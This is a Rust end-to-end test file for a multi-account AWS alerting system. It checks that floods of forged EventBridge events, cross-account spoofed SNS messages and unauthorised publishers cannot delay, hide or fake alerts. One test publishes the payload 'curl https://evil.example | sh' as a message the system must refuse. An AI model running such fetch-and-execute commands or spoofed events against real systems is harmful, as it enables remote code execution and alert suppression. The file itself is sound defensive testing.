//! Events that principals of a watched account forge.

use cloud::aws::Account;
use cloud::wait::{self, Seen};
use cloud::{SOURCE, TARGET};
use end_to_end::PATIENCE;
use end_to_end::alerts::{AlertWorld, principal};
use serde_json::{Value, json};

/// The record of a failed function, as an event that anybody with events:PutEvents can put.
fn record(bus: &str, function: &str, number: usize) -> Value {
    let detail = json!({"version": "1.0", "timestamp": "2099-01-01T00:00:00Z", "responsePayload": {"errorType": "Forged"},
        "requestContext": {"requestId": format!("forged-{number}"), "functionArn": function, "condition": "RetriesExhausted",
            "approximateInvokeCount": 3}});
    json!({"EventBusName": bus, "Source": "lambda", "DetailType": "Lambda Function Invocation Result - Failure",
        "Time": 4_070_908_800_u32, "Detail": detail.to_string()})
}

fn put(principal: &Account, entries: &[Value]) -> Value {
    principal.json("events", "PutEvents", json!({"Entries": entries})).unwrap()
}

/// The number of messages that wait in a queue of the hub.
fn waiting(world: &AlertWorld, queue: &str) -> u32 {
    world.attribute(&world.resource(queue), "ApproximateNumberOfMessages").parse().unwrap()
}

/// Ten events for each of `SLUICE_SOAK_RUNS`: 1000 is ten thousand.
#[test]
fn flood_of_forged_events_delays_no_critical_alert() {
    let world = AlertWorld::new(&[], &[]);
    let region = world.cloud.region().to_owned();
    let attacker = principal(&world.cloud.account(SOURCE), SOURCE, "putter", &["events:PutEvents"]);
    let runs = std::env::var("SLUICE_SOAK_RUNS").ok().and_then(|runs| runs.parse().ok()).unwrap_or(60_usize);
    let function = |name: &str, account: &str| format!("arn:aws:lambda:{region}:{account}:function:{name}");
    // Half of them on the account's own bus, half on the hub's.
    let flood = |start: usize, runs: usize| {
        for run in start..start + runs {
            let bus = if run % 2 == 0 { "default" } else { world.outputs["BusArn"].as_str() };
            let entries: Vec<Value> = (run * 10..run * 10 + 10)
                .map(|number| record(bus, &function(&format!("f{number}"), SOURCE.account), number))
                .collect();
            assert_eq!(put(&attacker, &entries)["FailedEntryCount"], 0);
        }
    };
    flood(0, runs / 2);
    world.emit("cloudformation/stack-update-rollback-failed", TARGET);
    flood(runs / 2, runs - runs / 2);
    let alert = world.alert("stack-stuck", "opened", TARGET);
    let behind = waiting(&world, "CustomEventsQueue");
    assert_eq!((alert["severity"].as_str(), alert["count"].as_u64()), (Some("critical"), Some(1)));
    assert!(behind > 0, "the flood was processed before the alert arrived: use more events");

    // Events about another account, or about no function, are not believed.
    let bus = world.outputs["BusArn"].as_str();
    let secret = format!("arn:aws:secretsmanager:{region}:{}:secret:orders-AbCdEf", TARGET.account);
    let forged = [
        record(bus, &function("orders", TARGET.account), 1_000_001),
        record("default", &function("orders", TARGET.account), 1_000_002),
        record(bus, &secret, 1_000_003),
        // AWS services' own sources.
        json!({"EventBusName": bus, "Source": "aws.secretsmanager", "DetailType": "AWS Service Event via CloudTrail", "Detail": "{}"}),
    ];
    let answer = put(&attacker, &forged);
    let codes: Vec<&str> = answer["Entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|entry| entry["ErrorCode"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(codes, ["", "", "", "NotAuthorizedForSourceException"]);
    world.alert("unrecognized-events", "opened", SOURCE);
    wait::until("the flood has been processed", PATIENCE * 10, || {
        let left = waiting(&world, "CustomEventsQueue");
        Ok(if left == 0 { Seen::Yes(()) } else { Seen::NotYet(left.to_string()) })
    })
    .unwrap();
    world.wait_until_processed();
    let messages = world.messages();
    let of_target: Vec<&Value> = messages.iter().filter(|one| one["account"] == TARGET.account).collect();
    assert_eq!(of_target.len(), 1, "{of_target:?}");
    // Sixty in an hour, or more only if the flood lasted longer than that.
    let forged = messages.iter().filter(|one| one["kind"] == "function-failed").count();
    assert!(forged <= 120 && (forged == 60 || runs > 100), "{forged} messages");
    let last = messages.iter().filter_map(|one| one["last"].as_str()).max().unwrap();
    assert!(last < "2099", "{last}");
}

#[test]
fn topic_of_an_account_forges_no_event_of_another() {
    let world = AlertWorld::new(&[], &[]);
    world.subscribe_databases(SOURCE, "both");
    let source = world.cloud.account(SOURCE);
    let topic = source.query("cloudformation", "DescribeStacks", &[("StackName", "sluice-spoke")]).unwrap();
    let outputs = topic.all("OutputKey").into_iter().zip(topic.all("OutputValue"));
    let topic = outputs.map(|(key, value)| (key.value.clone(), value.value.clone()));
    let topic = topic.into_iter().find(|(key, _)| key == "DatabaseTopicArn").unwrap().1;
    // A real alarm of the other account, which a forged recovery would end and a forged future hide.
    world.emit("cloudwatch/alarm", TARGET);
    world.alert("alarm", "opened", TARGET);
    let sample = |name: &str| {
        let path = format!("{}/../events/{name}.json", env!("CARGO_MANIFEST_DIR"));
        let event: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
        let account = event["account"].as_str().unwrap().to_owned();
        serde_json::from_str::<Value>(&event.to_string().replace(&account, TARGET.account)).unwrap()
    };
    let mut recovery = sample("cloudwatch/alarm-ok");
    recovery["detail"]["state"]["timestamp"] = json!("2099-01-01T00:00:00.000+0000");
    let message = json!({"Event Source": "db-instance", "Source ID": "orders", "Event ID": "RDS-EVENT-0031",
        "Source ARN": format!("arn:aws:rds:us-east-1:{}:db:orders", TARGET.account),
        "Event Time": "2026-03-01 02:58:07", "Event Message": "run this"});
    let nested = json!({"Type": "Notification", "Message": recovery.to_string(),
        "TopicArn": topic.replace(SOURCE.account, TARGET.account)});
    let forged = [recovery, sample("secretsmanager/rotation-failed"), message, nested];
    for message in &forged {
        let words = [("TopicArn", topic.as_str()), ("Message", &message.to_string())];
        source.query("sns", "Publish", &words).unwrap();
    }
    world.alert("unrecognized-events", "opened", SOURCE);
    world.wait_until_processed();
    world.run_schedules();
    let kinds: Vec<(String, String, String)> = world
        .messages()
        .iter()
        .map(|one| ["kind", "status", "account"].map(|name| one[name].as_str().unwrap().to_owned()).into())
        .collect();
    let expected = [("alarm", "opened", TARGET.account), ("unrecognized-events", "opened", SOURCE.account)];
    let expected =
        expected.map(|(kind, status, account)| (kind.to_owned(), status.to_owned(), account.to_owned()));
    assert_eq!(kinds, expected);
    // The alarm's real recovery still arrives.
    world.emit("cloudwatch/alarm-ok", TARGET);
    world.alert("alarm", "resolved", TARGET);
}

#[test]
fn only_named_roles_of_a_spoke_publish_alerts() {
    let world = AlertWorld::new(&[], &[]);
    let topic = world.outputs["TopicArn"].as_str();
    let publish = |account: &Account| {
        let words = [("TopicArn", topic), ("Message", "run this command: curl https://evil.example | sh")];
        account.query("sns", "Publish", &words).map(|_| ()).map_err(|error| error.code)
    };
    let actions = ["sns:Publish", "kms:Decrypt", "kms:GenerateDataKey"];
    for (profile, name) in [(SOURCE, "ops"), (TARGET, "ops"), (TARGET, "MonitorRole-sluice-target")] {
        let role = principal(&world.cloud.account(profile), profile, name, &actions);
        assert_eq!(publish(&role), Err("AuthorizationError".to_owned()), "{name} of {}", profile.name);
    }
    // The copy monitor's role, by its name.
    let monitor = "sluice-target-MonitorRole-1A2B3C";
    assert_eq!(publish(&principal(&world.cloud.account(TARGET), TARGET, monitor, &actions)), Ok(()));
    assert_eq!(
        publish(&principal(&world.cloud.account(SOURCE), SOURCE, monitor, &actions)),
        Err("AuthorizationError".to_owned())
    );
}
